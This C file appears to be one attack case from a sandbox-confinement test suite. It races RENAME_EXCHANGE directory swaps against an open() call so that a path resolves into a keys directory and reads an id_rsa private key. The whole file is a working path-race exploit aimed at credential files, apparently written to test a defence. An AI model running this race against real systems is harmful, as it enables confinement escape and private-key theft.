/* SPDX-License-Identifier: Apache-2.0 */
/* RENAME_EXCHANGE of two directories of the agent's, and of one of them with the key's, while a path through them is opened. */
#define ATTACK "race-exchange"
#include "race.h"

static char *first, *second, *keys, *through;

static void change(void)
{
	renameat2(AT_FDCWD, first, AT_FDCWD, second, RENAME_EXCHANGE);
	renameat2(AT_FDCWD, first, AT_FDCWD, keys, RENAME_EXCHANGE);
}

static int reach(void)
{
	int fd = open(through, O_RDONLY | O_CLOEXEC);

	return fd < 0 && errno == ENOENT ? open(text("%s/id_rsa", keys), O_RDONLY | O_CLOEXEC) : fd;
}

int main(int count, char **argument)
{
	(void)count;
	keys = text("%s/keys", argument[1]);
	first = text("%s/first", argument[2]);
	second = text("%s/second", argument[2]);
	through = text("%s/first/id_rsa", argument[2]);
	prepare("mkdir", mkdir(first, 0700));
	prepare("mkdir", mkdir(second, 0700));
	put("own file", text("%s/second/id_rsa", argument[2]), "nothing\n");
	race(argument[2], change, reach);
}
